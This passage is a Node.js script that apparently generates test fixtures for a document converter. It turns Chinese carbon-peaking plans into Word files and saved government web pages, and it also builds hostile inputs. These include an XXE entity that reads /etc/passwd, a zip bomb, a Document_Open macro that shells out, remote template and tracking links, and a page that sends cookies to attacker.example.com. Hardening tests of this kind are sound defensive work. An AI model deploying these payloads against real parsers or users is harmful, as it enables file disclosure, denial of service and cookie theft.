// Makes the Word documents and saved web pages of test/fixtures/input/ from the text of real plans
// in test/fixtures/corpus/, the way drafters and websites make them: Word's automatic multi-level
// numbering (一、 → （一） → 1. → （1）, held in numbering.xml, not in the paragraphs), tables, a cover
// notice and signature, a footnote, a text box, tracked changes, running headers and page numbers;
// government pages in UTF-8 and GBK with navigation, breadcrumbs, share buttons and related links
// around the article; and hostile files. The tests convert them and compare the analysis of the
// converted text with the analysis of the plan's own text.
//
// Run: node scripts/make-input-fixtures.mjs (the files are committed; re-running changes dates and
// random ids inside the .docx files, not their text).
import * as fs from 'node:fs';
import * as path from 'node:path';
import * as docx from 'docx';
import { createMacros } from 'docx/macros';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import iconv from 'iconv-lite';

const {
  AlignmentType, Document, ExternalHyperlink, Footer, FootnoteReferenceRun, Header, InsertedTextRun, DeletedTextRun,
  LevelFormat, LevelSuffix, Packer, PageNumber, Paragraph, Table, TableCell, TableOfContents, TableRow, Textbox, TextRun,
  VerticalMergeType, WidthType,
} = docx;

const ROOT = path.resolve(path.dirname(new URL(import.meta.url).pathname), '..');
const OUT = path.join(ROOT, 'test', 'fixtures', 'input');
const corpus = (name) => fs.readFileSync(path.join(ROOT, 'test', 'fixtures', 'corpus', name), 'utf8').replace(/\r\n/g, '\n').split('\n').filter((l) => l.trim() !== '');
const DATE = '2022-03-01T09:00:00Z';
const FONT = { ascii: 'Times New Roman', eastAsia: '仿宋_GB2312', hAnsi: 'Times New Roman' };

fs.mkdirSync(OUT, { recursive: true });

// ---------------------------------------------------------------------------------------------
// Numbering: the labels of a plan's headings, and Word's automatic numbering for them.

const CN = '一二三四五六七八九';
/** 一 … 九十九 to a number. */
function chineseNumber(s) {
  if (s === '十') return 10;
  if (s.startsWith('十')) return 10 + CN.indexOf(s[1]) + 1;
  if (s.length === 1) return CN.indexOf(s) + 1;
  const tens = CN.indexOf(s[0]) + 1;
  return s.length === 2 ? tens * 10 : tens * 10 + CN.indexOf(s[2]) + 1;
}

/** The heading label a corpus line starts with: its level (0 一、 … 3 （1）), number and the rest. */
function labelOf(line) {
  let m;
  if ((m = /^([一二三四五六七八九十]{1,3})、/.exec(line))) return { level: 0, n: chineseNumber(m[1]), rest: line.slice(m[0].length) };
  if ((m = /^（([一二三四五六七八九十]{1,3})）/.exec(line))) return { level: 1, n: chineseNumber(m[1]), rest: line.slice(m[0].length) };
  if ((m = /^(\d{1,2})([.．])/.exec(line)) && !/^\d+[.．]\d/.test(line)) return { level: 2, n: Number(m[1]), sep: m[2], rest: line.slice(m[0].length) };
  if ((m = /^（(\d{1,2})）/.exec(line))) return { level: 3, n: Number(m[1]), rest: line.slice(m[0].length) };
  return null;
}

/**
 * Word's levels for a plan: 一、 and （一） in chineseCounting, 1. (or 1．, as the plan writes it) and
 * （1） in decimal; %N in a pattern is the counter of level N. The first level ends in a tab, as
 * Word's default; the others in nothing.
 */
function planLevels(lines) {
  const sep = lines.map(labelOf).find((l) => l?.level === 2)?.sep ?? '.';
  return [
    { level: 0, format: LevelFormat.CHINESE_COUNTING, text: '%1、', suffix: LevelSuffix.TAB },
    { level: 1, format: LevelFormat.CHINESE_COUNTING, text: '（%2）', suffix: LevelSuffix.NOTHING },
    { level: 2, format: LevelFormat.DECIMAL, text: `%3${sep}`, suffix: LevelSuffix.NOTHING },
    { level: 3, format: LevelFormat.DECIMAL, text: '（%4）', suffix: LevelSuffix.NOTHING },
  ];
}

/**
 * Which corpus lines Word numbers, and where a list starts again: counting as Word does with
 * `restart[level]` (undefined: under any higher level; 1: only under 一、; 0: never), a line whose
 * number Word would not give is numbered by hand (its label stays text), except a 1 where Word's
 * count would go on, which starts a new list (a new w:num, as Word's "restart at 1" makes).
 */
function numberLines(lines, restart = []) {
  const values = [];
  let instance = 0;
  return lines.map((line) => {
    const label = labelOf(line);
    if (!label) return { line };
    const { level, n } = label;
    const next = (values[level] ?? 0) + 1;
    if (n !== next && n !== 1) return { line };
    if (n !== next) {
      instance++;
      values.length = 0;
    }
    values[level] = n;
    for (let deeper = level + 1; deeper < 4; deeper++) {
      const r = restart[deeper];
      if (r === undefined || (r > 0 && level < r)) values[deeper] = undefined;
    }
    return { line, label, instance };
  });
}

// ---------------------------------------------------------------------------------------------
// Paragraphs and tables.

const run = (text, extra = {}) => new TextRun({ ...(text === undefined ? {} : { text }), font: FONT, size: 32, ...extra });

function bodyParagraph(text, extra = {}) {
  return new Paragraph({ children: [run(text)], indent: { firstLine: 640 }, ...extra });
}

function numberedParagraph(item, reference, viaStyle) {
  if (!item.label) return bodyParagraph(item.line);
  const { level, rest } = item.label;
  const numbering = { reference, level, ...(item.instance ? { instance: item.instance } : {}) };
  // Headings by style (标题 1, 标题 2): the numbering comes with the style.
  if (viaStyle && level < 2) return new Paragraph({ style: `PlanHeading${level + 1}`, children: [run(rest)] });
  return new Paragraph({ children: [run(rest)], numbering });
}

/** A table of tab-separated lines, header first; `merge` lists columns whose equal cells are merged down. */
function wordTable(rows, options = {}, before = []) {
  return new Table({ width: { size: 100, type: WidthType.PERCENTAGE }, rows: [...before, ...tableRows(rows, options)] });
}

/** Rows of a table; a column in `merge` has equal cells merged down; `numbered` numbers column 0 (序号) automatically. */
function tableRows(rows, { merge = [], numbered } = {}) {
  const cells = rows.map((r) => r.split('\t'));
  return cells.map((row, i) =>
      new TableRow({
        tableHeader: i === 0,
        children: row.map((text, c) => {
          const above = i > 1 ? cells[i - 1][c] : undefined;
          const below = i > 0 && i + 1 < cells.length ? cells[i + 1][c] : undefined;
          const merged = i > 0 && merge.includes(c) && (text === above || text === below);
          const vMerge = merged ? (text === above ? VerticalMergeType.CONTINUE : VerticalMergeType.RESTART) : undefined;
          const shown = vMerge === VerticalMergeType.CONTINUE ? '' : text;
          const paragraph = numbered && c === 0 && i > 0 ? new Paragraph({ children: [], numbering: { reference: numbered, level: 0 } }) : new Paragraph({ children: [run(shown, { size: 24 })] });
          return new TableCell({ children: [paragraph], ...(vMerge ? { verticalMerge: vMerge } : {}) });
        }),
      }),
  );
}

const centred = (text, extra = {}) => new Paragraph({ alignment: AlignmentType.CENTER, children: [run(text, { size: 44, font: { eastAsia: '方正小标宋简体' } })], ...extra });
const right = (text) => new Paragraph({ alignment: AlignmentType.RIGHT, children: [run(text)] });

/** Running header and page number, which the reader must leave out. */
const furniture = (head) => ({
  headers: { default: new Header({ children: [new Paragraph({ alignment: AlignmentType.CENTER, children: [run(head, { size: 21 })] })] }) },
  footers: { default: new Footer({ children: [new Paragraph({ alignment: AlignmentType.CENTER, children: [run(undefined, { children: ['— ', PageNumber.CURRENT, ' —'], size: 28 })] })] }) },
});

async function pack(document) {
  return new Uint8Array(await Packer.toBuffer(document));
}

/** Edits parts of a packed .docx (numbering options the library has no words for, hostile content). */
function patch(bytes, edits) {
  const files = unzipSync(bytes);
  for (const [name, edit] of Object.entries(edits)) files[name] = strToU8(edit(files[name] ? strFromU8(files[name]) : ''));
  return zipSync(files);
}

/**
 * Word's own numbering for the plan's list (the library's abstract definition 2: 1 is its default
 * bullet list): the plan's first instance without start overrides (the library gives every instance
 * some; Word gives them only to a list restarted by hand), and w:lvlRestart where a level runs on.
 */
function wordLikeNumbering(xml, restart) {
  let first = true;
  xml = xml.replace(/(<w:num w:numId="\d+"><w:abstractNumId w:val="(\d+)"\/>)((?:<w:lvlOverride[\s\S]*?<\/w:lvlOverride>)+)(<\/w:num>)/g, (all, open, abs, _overrides, close) => {
    if (abs !== '2' || !first) return all;
    first = false;
    return open + close;
  });
  for (const [level, value] of Object.entries(restart)) {
    xml = xml.replace(new RegExp(`(<w:abstractNum w:abstractNumId="2"[^>]*>[^]*?<w:lvl w:ilvl="${level}"[^>]*><w:start w:val="\\d+"/><w:numFmt w:val="[^"]*"/>)`), `$1<w:lvlRestart w:val="${value}"/>`);
  }
  return xml;
}

// ---------------------------------------------------------------------------------------------
// The Word plans.

/** national-2030: cover notice with 文号 and signature, four levels (1．with a full-width point), a running head. */
async function national2030() {
  const lines = corpus('national-2030.txt');
  const items = numberLines(lines);
  const children = items.map((item, i) => {
    if (i <= 1) return centred(item.line);
    if (item.line === '（国发〔2021〕23号）') return new Paragraph({ alignment: AlignmentType.CENTER, children: [run(item.line)] });
    if (item.line === '国务院' || item.line === '2021年10月24日') return right(item.line);
    if (item.line === '2030年前碳达峰行动方案') return centred(item.line);
    return numberedParagraph(item, 'plan');
  });
  const doc = new Document({
    creator: 'PlanLens fixtures',
    numbering: { config: [{ reference: 'plan', levels: planLevels(lines) }] },
    sections: [{ ...furniture('国务院文件'), children }],
  });
  write('national-2030.docx', patch(await pack(doc), { 'word/numbering.xml': (x) => wordLikeNumbering(x, {}) }));
}

/** beijing-manufacturing: 1. runs on across （一）…（七） (restarts only under 一、), an indicator table. */
async function beijingManufacturing() {
  const lines = corpus('beijing-manufacturing.txt');
  const items = numberLines(lines, [undefined, undefined, 1]);
  const children = [];
  for (let i = 0; i < items.length; i++) {
    if (items[i].line.includes('\t')) {
      const rows = [];
      while (i < items.length && items[i].line.includes('\t')) rows.push(items[i++].line);
      i--;
      children.push(wordTable(rows));
      continue;
    }
    children.push(i === 0 || items[i].line === '北京市“十四五”时期制造业绿色低碳发展行动方案' ? centred(items[i].line) : numberedParagraph(items[i], 'plan'));
  }
  const doc = new Document({
    creator: 'PlanLens fixtures',
    numbering: { config: [{ reference: 'plan', levels: planLevels(lines) }] },
    sections: [{ ...furniture('北京市经济和信息化局'), children }],
  });
  write('beijing-manufacturing.docx', patch(await pack(doc), { 'word/numbering.xml': (x) => wordLikeNumbering(x, { 2: 1 }) }));
}

/**
 * national-opinions-1n: headings numbered by their paragraph styles (标题 1 → 一、, 标题 2 → （一）,
 * the numbering in styles.xml), （一） running on through the whole document (never restarting), and
 * a table of contents Word has filled in, as a bare TOC field.
 */
async function nationalOpinions() {
  const lines = corpus('national-opinions-1n.txt');
  const items = numberLines(lines, [undefined, 0]);
  const headings = items.filter((it) => it.label && it.label.level < 2);
  const levels = planLevels(lines);
  const doc = new Document({
    creator: 'PlanLens fixtures',
    numbering: { config: [{ reference: 'plan', levels }] },
    styles: {
      paragraphStyles: [
        { id: 'PlanHeading1', name: 'heading 1', basedOn: 'Normal', next: 'Normal', run: { font: '黑体', size: 32 }, paragraph: { numbering: { reference: 'plan', level: 0 }, outlineLevel: 0 } },
        { id: 'PlanHeading2', name: 'heading 2', basedOn: 'Normal', next: 'Normal', run: { font: '楷体_GB2312', size: 32 }, paragraph: { numbering: { reference: 'plan', level: 1 }, outlineLevel: 1 } },
      ],
    },
    sections: [{ ...furniture('中共中央 国务院'), children: [new TableOfContents('目录', { hyperlink: true, headingStyleRange: '1-2' }), ...items.map((it, i) => (i === 0 ? centred(it.line) : numberedParagraph(it, 'plan', true)))] }],
  });
  // Word fills the table of contents when it updates the field: one line per heading, with its page.
  const toc = headings
    .map((h, i) => `<w:p><w:pPr><w:pStyle w:val="TOC${h.label.level + 1}"/></w:pPr><w:hyperlink w:anchor="_Toc${i}"><w:r><w:t>${xmlEscape(h.line)}</w:t></w:r><w:r><w:tab/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> PAGEREF _Toc${i} \\h </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>${i + 1}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:hyperlink></w:p>`)
    .join('');
  write(
    'national-opinions-1n.docx',
    patch(await pack(doc), {
      'word/numbering.xml': (x) => wordLikeNumbering(x, { 1: 0 }),
      'word/document.xml': (x) =>
        x
          // A bare field, as older documents have it, rather than inside a content control.
          .replace(/<w:sdt><w:sdtPr>[\s\S]*?<w:sdtContent>/, '')
          .replace(/<\/w:sdtContent><\/w:sdt>/, '')
          .replace(/(<w:fldChar w:fldCharType="separate"\/><\/w:r><\/w:p>)/, `$1${toc}`),
    }),
  );
}

/**
 * wuhan-peak-assessment: four levels down to （1）; a title broken over two centred lines; a text
 * box, a footnote, a hyperlink, hidden text and tracked changes (an insertion, a deletion, a whole
 * paragraph deleted with its mark) in the body; a filled-in table of contents.
 */
async function wuhanPeakAssessment() {
  const lines = corpus('wuhan-peak-assessment.txt');
  const items = numberLines(lines);
  const author = { author: '起草组', date: DATE };
  const children = [];
  let ids = 100;
  for (let i = 0; i < items.length; i++) {
    const item = items[i];
    if (i === 0) {
      // 武汉市二氧化碳排放达峰 / 评估工作方案: one title on two centred lines.
      const cut = item.line.indexOf('评估');
      children.push(new Paragraph({ alignment: AlignmentType.CENTER, children: [run(item.line.slice(0, cut), { size: 44 }), run(item.line.slice(cut), { size: 44, break: 1 })] }));
      children.push(new TableOfContents('目录', { hyperlink: true, headingStyleRange: '1-3' }));
      continue;
    }
    if (item.line.startsWith('按照“1+N”编制体系')) {
      // Tracked: a sentence inserted, an old phrase deleted; then a whole paragraph deleted.
      const cut = item.line.indexOf('其中');
      children.push(
        new Paragraph({
          indent: { firstLine: 640 },
          children: [
            run(item.line.slice(0, cut)),
            new DeletedTextRun({ text: '（原稿：由各区分别开展评估，另行部署。）', id: ids++, ...author, font: FONT }),
            new InsertedTextRun({ text: item.line.slice(cut), id: ids++, ...author, font: FONT }),
          ],
        }),
        new Paragraph({ children: [new DeletedTextRun({ text: '本段为征求意见稿中的旧段落，已在修订中删除。', id: ids++, ...author, font: FONT })] }),
      );
      continue;
    }
    if (item.label?.level === 1 && item.label.rest.startsWith('编制市级评估报告')) {
      // A footnote after the paragraph's first sentence.
      const text = item.label.rest;
      const cut = text.indexOf('。') + 1;
      children.push(
        new Paragraph({
          numbering: { reference: 'plan', level: 1 },
          children: [run(text.slice(0, cut)), new FootnoteReferenceRun({ children: [new Paragraph({ children: [run('评估报告格式另行印发。', { size: 18 })] })] }), run(text.slice(cut))],
        }),
      );
      continue;
    }
    if (i === 3) {
      // A link (never followed) and hidden text in the body.
      children.push(
        new Paragraph({
          indent: { firstLine: 640 },
          children: [
            new ExternalHyperlink({ link: 'http://fgw.wuhan.gov.cn/zwgk/', children: [run(item.line.slice(0, 2), { style: 'Hyperlink' })] }),
            run(item.line.slice(2)),
            run('（内部注：此句不公开）', { vanish: true }),
          ],
        }),
      );
      continue;
    }
    if (item.line.startsWith('（四）编制区级碳达峰评估报告')) {
      // The paragraph after this heading sits in a text box anchored in the heading.
      const box = items[++i];
      children.push(new Paragraph({ numbering: { reference: 'plan', level: 1 }, children: [run(item.label.rest), new Textbox({ children: [bodyParagraph(box.line)], style: { width: '5.5in', height: 'auto' } })] }));
      continue;
    }
    children.push(numberedParagraph(item, 'plan'));
  }
  const doc = new Document({
    creator: 'PlanLens fixtures',
    features: { trackRevisions: true },
    numbering: { config: [{ reference: 'plan', levels: planLevels(lines) }] },
    sections: [{ ...furniture('武汉市发展和改革委员会'), children }],
  });
  const tocEntries = items
    .filter((it) => it.label && it.label.level === 0)
    .map((h, i) => `<w:p><w:pPr><w:pStyle w:val="TOC1"/></w:pPr><w:r><w:t>${xmlEscape(h.line)}</w:t></w:r><w:r><w:tab/></w:r><w:r><w:t>${i + 1}</w:t></w:r></w:p>`)
    .join('');
  write(
    'wuhan-peak-assessment.docx',
    patch(await pack(doc), {
      'word/numbering.xml': (x) => wordLikeNumbering(x, {}),
      'word/document.xml': (x) =>
        x
          .replace(/(<w:fldChar w:fldCharType="separate"\/><\/w:r><\/w:p>)/, `$1${tocEntries}`)
          // The deleted paragraph's mark is deleted too: accepting the change removes the paragraph.
          .replace(/<w:p>(<w:del [^>]*><w:r><w:delText xml:space="preserve">本段为征求意见稿)/, `<w:p><w:pPr><w:rPr><w:del w:id="99" w:author="起草组" w:date="${DATE}"/></w:rPr></w:pPr>$1`),
    }),
  );
}

/**
 * hangzhou-tech-city: a task-division table in an annex, the way such tables are laid out in Word:
 * a title row across all columns, 序号 numbered automatically, the lead agency's cell merged down
 * over the tasks it leads.
 */
const HANGZHOU_DIVISION = [
  '序号\t重点任务\t牵头单位\t配合单位\t完成时限',
  '\t强化科技创新攻关\t市科技局\t市发改委、市经信局\t2025年底前',
  '\t优化创新激励机制\t市科技局\t市财政局\t持续推进',
  '\t建设科创服务平台\t市科技局\t各区、县（市）政府\t2023年底前',
  '\t培育低碳科技企业\t市经信局\t市科技局\t2025年底前',
  '\t引育创新人才团队\t市人力社保局\t市科技局\t持续推进',
  '\t实施低碳示范工程\t市发改委\t市生态环境局、市建委\t2025年底前',
];

async function hangzhouTechCity() {
  const lines = corpus('hangzhou-tech-city.txt');
  const items = numberLines(lines);
  const children = items.map((it, i) => (i === 0 || it.line === '杭州市科创领域碳达峰行动方案' ? centred(it.line) : i === 3 || i === 4 ? right(it.line) : numberedParagraph(it, 'plan')));
  const title = new TableRow({ children: [new TableCell({ columnSpan: 5, children: [new Paragraph({ alignment: AlignmentType.CENTER, children: [run('重点任务分工表', { bold: true })] })] })] });
  children.push(new Paragraph({ children: [run('附件', { font: { eastAsia: '黑体' } })] }), wordTable(HANGZHOU_DIVISION, { merge: [2], numbered: 'serial' }, [title]));
  const doc = new Document({
    creator: 'PlanLens fixtures',
    numbering: {
      config: [
        { reference: 'plan', levels: planLevels(lines) },
        { reference: 'serial', levels: [{ level: 0, format: LevelFormat.DECIMAL, text: '%1', suffix: LevelSuffix.NOTHING }] },
      ],
    },
    sections: [{ ...furniture('杭州市科学技术局'), children }],
  });
  write('hangzhou-tech-city.docx', patch(await pack(doc), { 'word/numbering.xml': (x) => wordLikeNumbering(x, {}) }));
}

// ---------------------------------------------------------------------------------------------
// Saved government pages.

function xmlEscape(s) {
  return s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
}

const NAV = ['首页', '政务公开', '政策文件', '政策解读', '政务服务', '互动交流', '走进本市'];
const RELATED = ['关于做好2022年节能宣传周活动的通知', '市经济和信息化局2021年工作总结', '本市绿色制造体系建设实施方案政策解读', '关于公布第二批绿色工厂名单的通知'];

/** A modern page: header, navigation, breadcrumbs, title, info bar, the article in <p>s, share bar, related links, footer. */
function modernPage(lines, { title, site }) {
  const body = [];
  for (let i = 0; i < lines.length; i++) {
    const l = lines[i];
    if (l.includes('\t')) {
      const rows = [];
      while (i < lines.length && lines[i].includes('\t')) rows.push(lines[i++].split('\t'));
      i--;
      body.push(
        '<table border="1" cellspacing="0" cellpadding="4" style="width:100%;border-collapse:collapse">',
        `<thead><tr>${rows[0].map((c) => `<th>${xmlEscape(c)}</th>`).join('')}</tr></thead><tbody>`,
        ...rows.slice(1).map((r) => `<tr>${r.map((c) => `<td style="text-align:center"><span style="font-size:14px">${xmlEscape(c)}</span></td>`).join('')}</tr>`),
        '</tbody></table>',
      );
      continue;
    }
    // Pages mix styles: most paragraphs in <p>, some in <div>, a heading in <strong>, some joined by <br>.
    if (/^[一二三四五六七八九十]+、/.test(l)) body.push(`<p style="text-indent:2em"><strong>${xmlEscape(l)}</strong></p>`);
    else if (i % 7 === 3 && lines[i + 1] && !lines[i + 1].includes('\t') && !/^[一二三四五六七八九十（]/.test(lines[i + 1])) {
      body.push(`<p style="text-indent:2em">${xmlEscape(l)}<br>\n　　${xmlEscape(lines[++i])}</p>`);
    } else if (i % 5 === 1) body.push(`<div style="text-indent:2em;line-height:2">${xmlEscape(l)}</div>`);
    else body.push(`<p style="text-indent:2em">　　${xmlEscape(l)}</p>`);
  }
  return `<!DOCTYPE html>
<html lang="zh-CN">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>${xmlEscape(title)}_政策文件_${site}</title>
<link rel="stylesheet" href="https://www.example.gov.cn/css/common.css">
<script src="https://www.example.gov.cn/js/jquery.min.js"></script>
<script>var _hmt = _hmt || []; (function() { var hm = document.createElement("script"); hm.src = "https://hm.example.com/hm.js?abc"; document.head.appendChild(hm); })();</script>
<style>.share a { margin: 0 4px } .hide { display: none }</style>
</head>
<body>
<div class="top-bar"><div class="w1200"><span>欢迎访问${site}！</span><a href="/wza/">无障碍</a> <a href="/old/">长者模式</a> <a href="/en/">English</a> <a href="/login">登录</a></div></div>
<div class="header"><div class="w1200"><a href="/" class="logo"><img src="https://www.example.gov.cn/images/logo.png" alt="${site}"></a>
<form class="search" action="/search"><input type="text" name="q" placeholder="请输入关键词"><button type="submit">搜索</button></form></div></div>
<div class="nav"><ul>${NAV.map((n) => `<li><a href="/${encodeURIComponent(n)}/">${n}</a></li>`).join('')}</ul></div>
<div class="w1200 main">
<div class="crumbs">当前位置：<a href="/">首页</a> &gt; <a href="/zwgk/">政务公开</a> &gt; <a href="/zwgk/zcwj/">政策文件</a></div>
<div class="article">
<h1 class="article-title">${xmlEscape(title)}</h1>
<div class="article-info"><span>发布时间：2022-01-18 10:30</span> <span>来源：${site}</span> <span>浏览次数：3021</span> <span class="font-size">字号：<a href="#">大</a> <a href="#">中</a> <a href="#">小</a></span></div>
<div class="hide">此处内容不显示</div>
<div class="article-content" id="zoom">
${body.join('\n')}
<p style="text-align:center"><img src="https://www.example.gov.cn/images/qrcode.png" onerror="this.src='https://evil.example.com/x.png'"></p>
</div>
<div class="article-tools"><span>【<a href="javascript:window.print()">打印本页</a>】</span> <span>【<a href="javascript:window.close()">关闭窗口</a>】</span></div>
<div class="share">分享到：<a href="#" class="wx">微信</a><a href="#" class="wb">微博</a><a href="#" class="qq">QQ空间</a></div>
</div>
<div class="related"><h3>相关链接</h3><ul>${RELATED.map((r, i) => `<li><a href="/zwgk/${i}.html">${r}</a><span>2021-12-0${i + 1}</span></li>`).join('')}</ul></div>
</div>
<div class="footer"><div class="w1200"><p><a href="/about/">关于我们</a> | <a href="/map/">网站地图</a> | <a href="/contact/">联系我们</a></p>
<p>主办单位：${site}办公室　承办单位：${site}大数据中心</p><p>网站标识码：1100000088　<a href="https://beian.miit.gov.cn/">京ICP备05060933号</a>　京公网安备 11010502030127号</p></div></div>
<script>document.getElementById("zoom").style.fontSize = "16px"; fetch("https://tracker.example.com/pv");</script>
<iframe src="https://www.example.gov.cn/chat.html" style="display:none"></iframe>
</body>
</html>
`;
}

/** An old page (GB2312, laid out in nested tables, <font>, &nbsp; indents, paragraphs split by <br>). */
function oldPage(lines, { title, docNumber, site }) {
  const start = lines.indexOf(docNumber);
  const rest = lines.slice(start + 1);
  const content = rest.map((l) => (/^[一二三四五六七八九十]+、/.test(l) ? `&nbsp;&nbsp;&nbsp;&nbsp;<b>${xmlEscape(l)}</b><br>` : `&nbsp;&nbsp;&nbsp;&nbsp;${xmlEscape(l)}<br>`)).join('\n');
  return `<html>
<head>
<meta http-equiv="Content-Type" content="text/html; charset=gb2312">
<title>${xmlEscape(title)}_${site}</title>
<script language="javascript">function changeSize(s){document.getElementById('content').style.fontSize=s+'px';}</script>
</head>
<body topmargin="0" leftmargin="0">
<table width="980" border="0" align="center" cellpadding="0" cellspacing="0">
<tr><td><img src="http://www.example.gov.cn/images/banner.jpg" width="980" height="120"></td></tr>
<tr><td class="nav" height="36"><a href="/">首页</a> | <a href="/gongbao/">政府公报</a> | <a href="/zhengce/">政策</a> | <a href="/hudong/">互动</a> | <a href="/fuwu/">服务</a></td></tr>
</table>
<table width="980" border="0" align="center" cellpadding="0" cellspacing="0">
<tr>
<td width="200" valign="top" class="left">
<table width="100%"><tr><td><b>栏目导航</b></td></tr><tr><td><a href="/zhengce/zuixin/">最新政策</a></td></tr><tr><td><a href="/zhengce/jiedu/">政策解读</a></td></tr><tr><td><a href="/zhengce/wenjianku/">文件库</a></td></tr></table>
</td>
<td width="780" valign="top">
<table width="100%" border="0" cellspacing="0" cellpadding="0"><tr><td class="weizhi">您现在的位置：<a href="/">首页</a> &gt; <a href="/zhengce/">政策</a> &gt; 文件</td></tr></table>
<table width="96%" border="0" align="center" cellpadding="0" cellspacing="0">
<tr><td align="center" class="bt" height="60"><font size="5" color="#000000"><b>${xmlEscape(title)}</b></font></td></tr>
<tr><td align="center"><font color="#666666">${xmlEscape(docNumber)}</font></td></tr>
<tr><td align="center" class="info">来源：${site}　发布时间：2021-12-28　【字体：<a href="javascript:changeSize(16)">大</a> <a href="javascript:changeSize(14)">中</a> <a href="javascript:changeSize(12)">小</a>】</td></tr>
<tr><td id="content" class="content" style="line-height:200%"><font size="3">
${content}
</font></td></tr>
<tr><td align="right"><a href="javascript:window.print()">【打印】</a> <a href="javascript:window.close()">【关闭】</a></td></tr>
</table>
</td>
</tr>
</table>
<table width="980" align="center"><tr><td align="center" class="foot">版权所有：${site}　地址：北京市西城区西长安街2号　邮编：100017<br>网站标识码bm01000001　京ICP备05070218号</td></tr></table>
<script>document.write('<img src="http://stat.example.com/count.gif?page=' + escape(location.href) + '">');</script>
</body>
</html>
`;
}

function pages() {
  const beijing = corpus('beijing-manufacturing.txt');
  // The page's article is the plan with its notice, as the site published it (the first line is the page's title).
  fs.writeFileSync(path.join(OUT, 'beijing-manufacturing.html'), modernPage(beijing.slice(1), { title: beijing[0], site: '北京市经济和信息化局' }));
  const energy = corpus('national-energy-saving-14th.txt');
  fs.writeFileSync(path.join(OUT, 'national-energy-saving-14th.gbk.html'), iconv.encode(oldPage(energy.slice(1), { title: energy[0], docNumber: '（国发〔2021〕33号）', site: '中国政府网' }), 'gb18030'));
}

// ---------------------------------------------------------------------------------------------
// Hostile files.

async function hostile() {
  const small = new Document({
    numbering: { config: [{ reference: 'plan', levels: planLevels([]) }] },
    sections: [{ children: [centred('某市节能降碳行动方案'), numberedParagraph({ line: '一、重点任务', label: { level: 0, rest: '重点任务' } }, 'plan'), bodyParagraph('到2025年，单位地区生产总值能耗比2020年下降14%。（市发展改革委负责）')] }],
  });
  const plain = await pack(small);

  // XXE: an external entity naming a local file and a remote URL, used in the body.
  write(
    'xxe.docx',
    patch(plain, {
      'word/document.xml': (x) =>
        x
          .replace('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>', '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE w:document [<!ENTITY secret SYSTEM "file:///etc/passwd"><!ENTITY remote SYSTEM "http://attacker.example.com/x">]>')
          .replace('重点任务</w:t>', '重点任务&secret;&remote;</w:t>'),
    }),
  );

  // A zip bomb: document.xml declares 300 MB (of spaces inside a paragraph), deflated to a few hundred kilobytes.
  const files = unzipSync(plain);
  const doc = strFromU8(files['word/document.xml']);
  const padding = new Uint8Array(300 * 1024 * 1024).fill(0x20);
  const [head, tail] = doc.split('重点任务');
  const bomb = new Uint8Array(strToU8(head).length + padding.length + strToU8(tail).length);
  bomb.set(strToU8(head), 0);
  bomb.set(padding, strToU8(head).length);
  bomb.set(strToU8(tail), strToU8(head).length + padding.length);
  write('zip-bomb.docx', zipSync({ ...files, 'word/document.xml': [bomb, { level: 9 }] }));

  // Macros (a .docm: the VBA project and an AutoOpen-style event), remote links and a remote template.
  const macros = new Document({
    macros: createMacros({ thisDocument: 'Private Sub Document_Open()\n    Shell "cmd /c calc.exe"\nEnd Sub' }),
    sections: [{ children: [centred('某市节能降碳行动方案'), bodyParagraph('一、重点任务'), bodyParagraph('到2025年，单位地区生产总值能耗比2020年下降14%。（市发展改革委负责）')] }],
  });
  write('macro.docm', await pack(macros));
  write(
    'remote-links.docx',
    patch(plain, {
      'word/document.xml': (x) =>
        x.replace(
          '</w:body>',
          '<w:p><w:r><w:pict><v:shape style="width:100pt;height:50pt"><v:imagedata r:id="rIdRemoteImage" o:title=""/></v:shape></w:pict></w:r><w:hyperlink r:id="rIdRemoteLink"><w:r><w:t>附件下载</w:t></w:r></w:hyperlink></w:p></w:body>',
        ),
      'word/_rels/document.xml.rels': (x) =>
        x.replace(
          '</Relationships>',
          '<Relationship Id="rIdRemoteImage" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="http://attacker.example.com/track.png" TargetMode="External"/><Relationship Id="rIdRemoteLink" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="http://attacker.example.com/" TargetMode="External"/></Relationships>',
        ),
      'word/_rels/settings.xml.rels': () =>
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://attacker.example.com/template.dotm" TargetMode="External"/></Relationships>',
    }),
  );

  // A legacy .doc: an OLE2 compound file header, then sectors (a real one would follow the same header).
  const ole = new Uint8Array(4096);
  ole.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
  ole.set([0x3e, 0x00, 0x03, 0x00, 0xfe, 0xff, 0x09, 0x00], 24);
  write('legacy.doc', ole);
  write('legacy.wps', ole);

  // A text file renamed .docx, and a .docx cut in half (a download that stopped).
  write('renamed-text.docx', strToU8('某市节能降碳行动方案\n一、重点任务\n到2025年，单位地区生产总值能耗比2020年下降14%。（市发展改革委负责）\n'));
  write('truncated.docx', plain.subarray(0, Math.floor(plain.length / 2)));

  // A page with scripts, event handlers, remote images, a frame and a refresh, around a short plan.
  fs.writeFileSync(
    path.join(OUT, 'hostile.html'),
    `<!DOCTYPE html><html><head><meta charset="utf-8"><meta http-equiv="refresh" content="0;url=http://attacker.example.com/"><base href="http://attacker.example.com/">
<title>某市节能降碳行动方案</title><script>document.location = "http://attacker.example.com/?c=" + document.cookie;</script>
<link rel="stylesheet" href="http://attacker.example.com/x.css"></head>
<body onload="alert('pwned')"><iframe src="http://attacker.example.com/frame"></iframe>
<div id="main"><h1>某市节能降碳行动方案</h1>
<p>为推动节能降碳，制定本方案。</p>
<p><img src="http://attacker.example.com/pixel.gif" onerror="alert('img')">一、重点任务</p>
